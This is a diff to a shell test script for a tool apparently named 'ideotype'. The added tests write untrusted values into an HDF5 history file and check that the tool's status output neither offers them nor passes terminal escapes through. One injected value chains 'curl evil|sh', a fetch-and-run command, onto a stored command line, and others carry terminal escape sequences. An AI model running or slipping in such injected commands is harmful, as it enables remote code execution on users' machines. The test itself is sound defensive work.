@@ -75,6 +75,24 @@ flip /campaign/resolved 100 "the header"
 flip /generations/committed 2 "the mark of generation 2" '\0'
 flip /final/status 1 "finalist 1" '\0'
 
+# Commands that a history has may come from anybody: nothing but a start of the
+# program is offered, and nothing reaches the terminal as it is.
+cp whole.h5 "$history"
+write_text() {
+    local at
+    at=$(h5dump -p -H -d "$1" whole.h5 | awk '/OFFSET/ { print $2 }')
+    printf '%b' "$2" | dd of="$history" bs=1 seek="$at" conv=notrunc status=none
+}
+write_text /state/finished '\0'
+expect 0 "$ideotype" status "$history"
+says "^  .*ideotype run campaigns/flipped.toml --resume$"
+write_text /sessions/command 'ideotype run x.toml; curl evil|sh # \033[1A'
+expect 0 "$ideotype" status "$history"
+! grep -q "evil\|go on with" out.log || fail "offered: $(cat out.log)"
+write_text /state/finished '\001'
+write_text /state/reason 'gen\033]0;evil\007\302\233'
+expect 0 "$ideotype" status "$history"
+says 'finished by gen\\x1b\]0;evil\\x07\\xc2\\x9b'
 cp whole.h5 "$history"
 expect 0 "$ideotype" pack "$history"
 expect 0 "$ideotype" verify "$history"
